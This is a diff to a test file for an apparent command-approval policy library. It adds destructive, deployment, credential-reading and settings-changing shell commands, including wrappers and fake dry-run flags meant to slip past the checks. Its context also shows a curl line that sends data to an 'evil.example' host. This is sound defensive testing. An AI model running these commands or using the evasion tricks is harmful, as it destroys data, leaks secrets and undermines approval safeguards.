@@ -2,11 +2,13 @@
 
 from __future__ import annotations
 
+import subprocess
 from functools import cache
+from pathlib import Path
 
 import pytest
 
-from handrail import Call, Executor, Toolset, tool
+from handrail import Ask, Call, Executor, Toolset, tool
 from handrail.policy import Level, Rulebook, builtin_rules, parse
 
 
@@ -185,6 +187,25 @@ cd /tmp && rm -r $x/project
 awk 'BEGIN { system("rm -rf src") }'
 awk 'BEGIN { print "x" | "rm -rf src" }'
 rm -rf /home/a/project/src
+timeout infinity git reset --hard
+timeout .5 git reset --hard
+timeout -k 5 infinity git reset --hard
+gtimeout --foreground inf rm -rf src
+taskset ff git reset --hard
+taskset -c 0-3 git reset --hard
+chrt idle git stash drop
+nice taskset ff git reset --hard
+env a.b=c git reset --hard
+env A+=b git reset --hard
+sudo x.y=1 rm -rf src
+mise exec node@20 -- git reset --hard
+git clean -fdx -e -n
+git clean -fdxe -n
+git clean -fdx -- -n
+git clean -n --no-dry-run
+git checkout --ours .
+git checkout --theirs src/a.py
+git checkout --ours src lib
 """
 OTHERS = """
 git push
@@ -259,6 +280,27 @@ sed s/a/b/ script | sudo sh
 xxd -r -p x | env bash -s
 curl -d x http://localhost:80@evil.example/
 cap production deploy
+timeout inf npm publish
+env a.b=c kubectl delete ns prod
+taskset ff terraform destroy
+timeout inf curl -d @x https://example.com
+mise exec node@20 -- git push
+npm publish --dry-run false
+npm publish --dry-run --no-dry-run
+npm publish --tag --dry-run
+git push -o --dry-run
+kubectl delete ns prod -l --dry-run=client
+kubectl delete ns prod --dry-run=client --dry-run=none
+kubectl apply -f --dry-run=client
+rclone sync size remote:x
+ansible-playbook site.yml -e --list-hosts
+rsync --exclude --dry-run a host:b
+make deploy -f -n
+ssh host -V
+bash deploy.sh -n
+bash -n deploy.sh && bash deploy.sh
+python deploy.py
+node scripts/deploy.js
 """
 SETTINGS = """
 npm config set registry http://example.com
@@ -272,6 +314,10 @@ git config url.https://x/.insteadOf https://github.com/
 crontab -e
 systemctl enable x
 gem sources --add http://example.com
+timeout inf git config core.hooksPath x
+timeout inf crontab x
+crontab -r -l
+git config --file --get core.hooksPath x
 """
 CREDENTIALS = """
 gh auth token
@@ -285,6 +331,8 @@ pass show mail
 vault kv get secret/x
 kubectl get secret app -o yaml
 ssh-keygen -t ed25519
+poetry config http-basic.x u p --list
+kubectl config set-credentials view --token=x
 """
 HOSTS = """
 git fetch origin
@@ -317,6 +365,8 @@ aws s3 ls
 gcloud compute instances list
 kubectl rollout status deploy/x
 git push --dry-run
+git push origin main --dry-run
+git push -f --dry-run
 ping example.com
 psql postgres://db.example.com/app -c 'select 1'
 redis-cli -h cache.example.com ping
@@ -490,6 +540,21 @@ git diff --name-only HEAD | grep '\\.py$' | xargs -r ruff check --fix
 find . -empty -type d -delete
 cd /tmp && rm -r project && mkdir project && cd project && git init
 npx cap sync
+timeout 1m30s pytest -k pass
+timeout -s KILL 60 pytest tests/at
+taskset 0x3 pytest tests/pass
+env A.B=c pytest pass
+mise exec node@20 -- pytest op
+git clean -f -d -n
+kubectl apply -f k.yml --dry-run=client -o yaml
+kubectl apply -f - --dry-run=client
+helm upgrade x ./chart --install --dry-run
+ansible-playbook -i hosts site.yml --list-tasks
+kubectl --context dev config view
+rclone -v ls remote:x
+git config --global --get user.email
+git config --show-origin --list
+bash -n deploy.sh && cat deploy.sh
 """
 
 
@@ -527,7 +592,7 @@ def test_a_consequence_needs_approval_in_mode_edits(command: str) -> None:
 
 
 @pytest.mark.parametrize(
-    "command", ["git reset --hard", "rm src/old.py", "gh auth token", "psql -c 'DROP TABLE a'"]
+    "command", ["git reset --hard", "rm src/old.py", "npm login", "psql -c 'DROP TABLE a'"]
 )
 def test_mode_open_asks_for_nothing_else(command: str) -> None:
     assert decided("open", command) == "allow"
@@ -579,3 +644,28 @@ def test_a_rule_of_a_workspace_does_not_answer_for_the_person(mode: str) -> None
         decisions.append([type(each.decision).__name__ for each in explained])
 
     assert decisions == [["Ask", "Allow"], ["Allow", "Allow"]]
+
+
+def test_the_name_of_a_file_or_a_folder_is_checked_out_only_with_approval(tmp_path: Path) -> None:
+    """A name that a branch has too means the branch."""
+    for name in ("core/a.py", "tools/a.py", "sub/inner/a.py"):
+        (tmp_path / name).parent.mkdir(parents=True)
+        (tmp_path / name).write_text("x\n", encoding="utf-8")
+    me = ["-c", "user.name=a", "-c", "user.email=a@example.com"]
+    for words in (["init", "-q"], ["add", "."], ["commit", "-qm", "x"], ["branch", "tools"]):
+        subprocess.run(["git", "-C", tmp_path, *me, *words], check=True)  # noqa: S603, S607
+    subprocess.run(["git", "-C", tmp_path, "worktree", "add", "-q", "wt"], check=True)  # noqa: S603, S607
+
+    def asks(command: str, root: Path = tmp_path) -> bool:
+        policy = Rulebook(mode="edits", sandboxed=True, workspace=root)
+        call = Call("bash", {"command": command})
+        return isinstance(Executor(Toolset(bash), policy=policy).explain(call).decision, Ask)
+
+    assert [asks("git checkout core"), asks("cd sub && git checkout inner")] == [True, True]
+    assert [asks("git checkout tools"), asks("git checkout feature")] == [False, False]
+    assert [
+        asks("git checkout core", tmp_path / "wt"),
+        asks("git checkout tools", tmp_path / "wt"),
+    ] == [True, False]
+    subprocess.run(["git", "-C", tmp_path, "pack-refs", "--all"], check=True)  # noqa: S603, S607
+    assert [asks("git checkout core"), asks("git checkout tools")] == [True, False]
